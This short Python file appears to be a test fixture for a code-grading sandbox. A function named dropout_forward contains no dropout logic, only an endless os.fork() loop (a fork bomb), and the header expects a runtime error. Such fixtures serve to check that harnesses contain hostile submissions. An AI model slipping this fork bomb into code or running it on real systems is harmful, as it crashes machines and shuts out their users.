# task: dropout_forward
# expect: runtime_error
import os


def dropout_forward(x, p, training, rng):
    while True:
        os.fork()
